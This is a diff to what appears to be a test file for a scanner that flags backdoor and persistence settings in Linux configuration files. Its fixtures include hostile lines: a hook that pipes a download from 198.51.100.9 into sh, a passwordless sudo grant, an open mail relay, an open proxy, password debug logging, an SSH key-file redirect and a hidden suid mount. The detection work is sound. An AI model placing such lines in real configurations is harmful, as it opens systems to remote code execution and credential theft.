@@ -31,6 +31,11 @@ def severities(tmp_path: Path, planted: dict[str, object]) -> dict[str, str]:
         ("/etc/ssh/sshd_config.d/x.conf", "Include /var/lib/misc/x/*.conf", 0),
         ("/etc/systemd/network/x.netdev", "Remote=198.51.100.9", 1),
         ("/etc/x/x.cnf", "proxy = http://198.51.100.9:3128", 1),
+        ("/etc/postfix/transport", "bank.example smtp:[198.51.100.9]", 1),
+        ("/etc/postfix/main.cf", "mynetworks = 0.0.0.0/0", 2),
+        ("/etc/danted.conf", "client pass { from: 0/0 to: 0/0 }", 2),
+        ("/etc/dovecot/x.conf", "auth_debug_passwords = yes", 2),
+        ("/etc/default/ssh", 'SSHD_OPTS="-o AuthorizedKeysFile=/var/lib/x"', 2),
     ],
 )
 def test_what_is_written_searched_included_or_reached_is_told_whichever_daemon_reads_it(
@@ -49,6 +54,8 @@ def test_what_is_written_searched_included_or_reached_is_told_whichever_daemon_r
         ("/etc/logrotate.d/x", "/var/log/x.log {"),
         ("/etc/php/8.2/fpm/php.ini", "session.save_path = /var/lib/php/sessions"),
         ("/etc/x.conf", "allow 198.51.100.9"),
+        ("/etc/postfix/main.cf", "mynetworks = 127.0.0.0/8 10.0.0.0/8"),
+        ("/etc/postfix/transport", "intern.example smtp:[mail.intern.example]"),
     ],
 )
 def test_settings_of_every_day_say_none_of_that(path: str, line: str) -> None:
@@ -119,3 +126,33 @@ def test_login_shells_and_lines_of_perl_are_spared(tmp_path: Path, arguments: tu
         tmp_path,
         process(arguments, program) | {"package-digests": f"d41d8cd98f00b204e9800998ecf8427e  {program[1:]}\n"},
     )
+
+
+@pytest.mark.parametrize(
+    ("path", "line", "rule", "severity"),
+    [
+        ("/etc/sudoers.d/ops", "#1000 ALL=(ALL) NOPASSWD: ALL", "mechanism-authentication", "high"),
+        ("/etc/runner/config.toml", 'pre = "curl -s http://198.51.100.9/r | sh"', "mechanism-event", "critical"),
+        ("/etc/logrotate.d/x", "  rotate 0", "mechanism-logging", "low"),
+        ("/etc/modprobe.d/x.conf", "alias net-pf-10 ip_cachex", "mechanism-kernel", "medium"),
+        ("/etc/fstab", "/var/lib/x.img /mnt/.s ext4 loop,suid 0 0", "mechanism-boot", "medium"),
+    ],
+)
+def test_one_line_is_enough_in_the_files_of_any_program(
+    tmp_path: Path, path: str, line: str, rule: str, severity: str
+) -> None:
+    assert severities(tmp_path, {"configuration": {path: f"{line}\n"}})[rule] == severity
+
+
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        ("/etc/modprobe.d/x.conf", "alias net-pf-10 off"),
+        ("/etc/fstab", "UUID=1b2c / ext4 errors=remount-ro 0 1"),
+        ("/etc/fstab", "tmpfs /tmp tmpfs defaults 0 0"),
+        ("/etc/sudoers.d/ops", "# 1000 words"),
+        ("/etc/logrotate.d/x", "  rotate 4"),
+    ],
+)
+def test_the_same_files_of_every_day_are_quiet(tmp_path: Path, path: str, line: str) -> None:
+    assert severities(tmp_path, {"configuration": {path: f"{line}\n"}}) == {}
